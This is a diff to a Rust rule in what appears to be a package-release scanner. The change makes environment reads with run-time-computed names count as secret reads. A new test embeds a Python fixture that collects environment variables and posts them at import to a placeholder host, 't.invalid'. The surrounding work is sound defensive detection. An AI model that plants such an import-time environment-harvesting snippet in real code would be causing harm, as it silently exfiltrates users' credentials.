@@ -36,20 +36,31 @@ const SECRET: &[&str] = &[
     "PRIVATE",
 ];
 
+/// A name that looks like a credential, the whole environment (`*`), or a name computed at
+/// run time (`?`: `environ.get(n)` over a list of names). A computed name cannot be shown to
+/// be harmless, so it counts, as a computed destination does on the npm side.
 fn secretish(detail: &str) -> bool {
     let up = detail.to_ascii_uppercase();
-    detail == "*" || SECRET.iter().any(|s| up.contains(s))
+    detail == "*" || detail == "?" || SECRET.iter().any(|s| up.contains(s))
 }
 
 pub(crate) fn diff(cx: &DiffCx<'_>, out: &mut Vec<Finding>) {
     let known = cx.old.details(Capability::EnvRead);
+    // A computed name is "known" only where the previous release already read one in the
+    // same file (a computed read elsewhere says nothing about this one).
+    let old_computed: BTreeSet<&str> = cx
+        .old
+        .uses(Capability::EnvRead)
+        .filter(|o| o.detail.as_deref() == Some("?"))
+        .map(|o| o.path.as_str())
+        .collect();
     let reads: Vec<&Occurrence> = cx
         .new
         .uses(Capability::EnvRead)
-        .filter(|o| {
-            o.detail
-                .as_deref()
-                .is_some_and(|d| secretish(d) && !known.contains(d))
+        .filter(|o| match o.detail.as_deref() {
+            Some("?") => !old_computed.contains(o.path.as_str()),
+            Some(d) => secretish(d) && !known.contains(d),
+            None => false,
         })
         .collect();
     let sends: Vec<&Occurrence> = cx
@@ -142,5 +153,21 @@ mod tests {
         assert!(init_diff(old, new, RULE.code).is_empty());
         let new = "import os, requests\nrequests.get('https://x.example', proxies={'http': os.getenv('HTTP_PROXY')})\n";
         assert!(init_diff("", new, RULE.code).is_empty());
+    }
+
+    /// The names come from a list the comprehension walks: no constant name to judge, so the
+    /// read counts (seen in the bundled demo: `{n: environ.get(n) for n in (...)}` sent at
+    /// import walked past the rule before).
+    #[test]
+    fn computed_names_count_and_a_known_computed_read_in_the_same_file_does_not() {
+        let new = "import os as _o, urllib.request as _u\n_k = {n: _o.environ.get(n, '') for n in ('A', 'B')}\n_u.urlopen('https://t.invalid', data=repr(_k).encode())\n";
+        let f = init_diff("import urllib.request\n", new, RULE.code);
+        assert_eq!(f.len(), 1, "{f:?}");
+        let old = "import os\ndef cfg(n):\n    return os.environ.get(n)\n";
+        let new_same = format!(
+            "{old}import urllib.request\nurllib.request.urlopen('https://t.invalid', data=cfg('X'))\n"
+        );
+        // The previous release already read computed names in this file: not new.
+        assert!(init_diff(old, &new_same, RULE.code).is_empty());
     }
 }
